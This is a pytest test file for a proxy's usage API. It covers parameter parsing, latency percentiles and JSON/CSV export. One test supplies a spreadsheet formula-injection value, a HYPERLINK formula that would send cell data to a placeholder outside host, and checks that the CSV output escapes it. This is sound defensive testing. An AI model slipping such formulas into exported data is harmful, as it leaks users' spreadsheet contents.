"""The usage API's parameters, percentiles and answers as values."""

from __future__ import annotations

import pytest

from proxy.core.errors import InvalidRequest
from proxy.core.usage_query import (
    DEFAULT_RANGE,
    UsageQuery,
    UsageRow,
    parse_usage_query,
    percentile,
    usage_csv,
    usage_json,
)

NOW = 1_800_000_000.0


def test_defaults_are_the_last_thirty_days_in_one_json_total() -> None:
    assert parse_usage_query({}, NOW) == UsageQuery(NOW - DEFAULT_RANGE, NOW, (), False)
    query = parse_usage_query({"start_time": "100", "end_time": "200", "group_by": "day, model", "format": "csv"}, NOW)
    assert query == UsageQuery(100.0, 200.0, ("day", "model"), True)


@pytest.mark.parametrize(
    ("params", "param"),
    [
        ({"start_time": "yesterday"}, "start_time"),
        ({"end_time": "nan"}, "end_time"),
        ({"start_time": "300", "end_time": "200"}, "start_time"),
        ({"group_by": "prompt"}, "group_by"),
        ({"group_by": "day,day"}, "group_by"),
        ({"format": "xml"}, "format"),
        ({"start_time": "0"}, "start_time"),  # a range of decades
        ({"start_time": "253402300000", "end_time": "253402400000"}, "end_time"),  # past year 9999
        ({"end_time": "inf"}, "end_time"),
    ],
)
def test_bad_parameters_are_400s_naming_them(params: dict[str, str], param: str) -> None:
    with pytest.raises(InvalidRequest) as caught:
        parse_usage_query(params, NOW)
    assert (caught.value.status, caught.value.param) == (400, param)


def test_nearest_rank_percentiles_of_a_histogram() -> None:
    ones = [(float(v), 1) for v in range(1, 101)]
    assert (percentile(ones, 0.5), percentile(ones, 0.95)) == (50.0, 95.0)
    assert percentile([(7.0, 1)], 0.95) == 7.0 and percentile([], 0.5) is None
    # 90 fast answers and 10 slow ones: the median is fast, the 95th percentile slow.
    assert (percentile([(120.0, 90), (5400.0, 10)], 0.5), percentile([(120.0, 90), (5400.0, 10)], 0.95)) == (120.0, 5400.0)
    assert percentile([(120.0, 95), (5400.0, 5)], 0.95) == 120.0  # the 95th of 100 is still the 95th value



def test_rows_render_as_json_and_csv_with_exact_costs() -> None:
    query = UsageQuery(100.0, 200.0, ("day", "model"))
    rows = [UsageRow({"day": "2027-01-15", "model": "dall-e-3"}, 3, 2, 80_000, 1, 120.5, 900.0),
            UsageRow({"day": "2027-01-15", "model": "local-image"}, 1, 1, 0, 0, None, None)]
    body = usage_json(query, rows)
    assert body["data"][0] == {"day": "2027-01-15", "model": "dall-e-3", "requests": 3, "images": 2, "cost_usd": 0.08,
                               "errors": 1, "p50_ms": 120.5, "p95_ms": 900.0}
    assert (body["start_time"], body["end_time"], body["group_by"]) == (100, 200, ["day", "model"])
    formula = UsageRow({"day": "2027-01-15", "model": '=HYPERLINK("http://x.example/?"&A1)'}, 1, 0, 0, 1, None, None)
    assert usage_csv(query, [formula]).splitlines()[1].startswith('2027-01-15,"\'=HYPERLINK(')  # a text, not a formula
    assert usage_csv(query, rows).splitlines() == [
        "day,model,requests,images,cost_usd,errors,p50_ms,p95_ms",
        "2027-01-15,dall-e-3,3,2,0.08,1,120.5,900.0",
        "2027-01-15,local-image,1,1,0.0,0,,",
    ]
